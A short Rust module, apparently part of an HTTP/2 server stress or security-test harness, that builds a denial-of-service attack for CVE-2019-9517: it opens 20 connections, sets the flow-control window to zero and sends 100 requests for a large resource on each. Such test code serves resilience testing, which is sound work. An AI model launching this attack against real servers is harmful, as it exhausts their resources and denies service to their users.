//! CVE-2019-9517 and its kin: large answers on many streams, and a window that never opens.

use super::{Attack, Door, HOST};
use crate::support::h2::{frame, hpack};

const STREAMS: u32 = 100;

pub(super) fn attack() -> Attack {
    let mut opening = frame::opening(&[(frame::INITIAL_WINDOW_SIZE, 0)]);
    let block = hpack::get("/100k", HOST);
    for number in 0..STREAMS {
        let stream = number * 2 + 1;
        frame::push(&mut opening, frame::HEADERS, frame::END_STREAM | frame::END_HEADERS, stream, &block);
    }
    Attack { connections: 20, opening, ..Attack::nothing("zero window", Door::Http2) }
}
